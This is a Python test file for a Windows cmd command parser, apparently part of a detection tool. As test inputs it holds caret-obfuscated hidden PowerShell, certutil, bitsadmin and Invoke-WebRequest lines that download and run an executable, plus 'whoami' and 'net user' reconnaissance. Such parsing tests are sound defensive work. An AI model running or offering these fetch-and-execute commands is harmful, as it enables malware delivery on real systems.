"""cmd commands by cmd's own rules: carets, separators, redirections, blocks and `cmd /c` nesting."""

from __future__ import annotations

from inspector.commands import Shell, extract_commands
from inspector.commands.cmd import cmd_script


def commands(text: str) -> list[tuple[str, tuple[str, ...]]]:
    return [(c.program, c.arguments) for c in extract_commands(text, Shell.CMD)]


def test_separators_outside_quotes_split_commands() -> None:
    assert commands('echo "a & b" & ping -n 1 x && whoami || exit /b 1 | more') == [
        ("echo", ("a & b",)), ("ping", ("-n", "1", "x")), ("whoami", ()), ("exit", ("/b", "1")), ("more", ())]


def test_carets_escape_and_are_dropped() -> None:
    found = commands("p^ow^ers^hell -w^ h^idden -c calc ^& whoami")
    assert found[0] == ("powershell", ("-w", "hidden", "-c", "calc", "&", "whoami"))


def test_a_caret_at_the_end_of_a_line_joins_the_next() -> None:
    assert commands("certutil -urlcache ^\n -f http://x/a a.exe") == [
        ("certutil", ("-urlcache", "-f", "http://x/a", "a.exe"))]


def test_redirections_are_arguments_of_their_own() -> None:
    assert commands("whoami > out.txt 2>&1") == [("whoami", (">", "out.txt", "2>&1"))]


def test_set_values_are_expanded_in_later_lines() -> None:
    assert commands("set U=http://x/a\nbitsadmin /transfer j %U% %TEMP%\\a.exe")[1] == (
        "bitsadmin", ("/transfer", "j", "http://x/a", "%TEMP%\\a.exe"))


def test_echo_off_labels_comments_and_block_syntax_are_not_commands() -> None:
    text = "@echo off\n:start\nrem note\n:: note\nif exist a.exe (start a.exe)\nfor %%i in (1 2) do call run.cmd %%i"
    assert commands(text) == [("echo", ("off",)), ("start", ("a.exe",)), ("run.cmd", ("%%i",))]


def test_cmd_c_runs_its_command_line_whose_commands_follow_it() -> None:
    (outer, *inner) = extract_commands('cmd.exe /c "certutil -urlcache -f http://x/a a.exe & a.exe" > nul', Shell.CMD)
    assert outer.program == "cmd" and cmd_script(outer) == "certutil -urlcache -f http://x/a a.exe & a.exe"
    assert [(c.program, c.shell) for c in inner] == [("certutil", Shell.CMD), ("a", Shell.CMD)]
    assert inner[0].parent_image == "C:\\Windows\\System32\\cmd.exe"


def test_nesting_crosses_shells_cmd_to_powershell() -> None:
    found = extract_commands('cmd /c powershell -w h -c "iwr http://x -OutFile a.exe"', Shell.CMD)
    assert [(c.program, c.shell) for c in found] == [
        ("cmd", Shell.CMD), ("powershell", Shell.CMD), ("invoke-webrequest", Shell.POWERSHELL)]


def test_images_for_programs_and_none_for_builtins() -> None:
    (net, echo, local) = extract_commands("NET.EXE user\necho x\nC:\\Tools\\x.exe /q", Shell.CMD)
    assert net.program == "net" and net.image == "C:\\Windows\\System32\\net.exe"
    assert echo.image == ""
    assert local.program == "c:\\tools\\x" and local.image == "c:\\tools\\x.exe"


def test_offsets_point_at_the_command() -> None:
    text = "@echo off\r\n  whoami /all & net user\r\n"
    found = extract_commands(text, Shell.CMD)
    assert [text[c.offset:c.offset + c.length] for c in found[1:]] == ["whoami /all", "net user"]
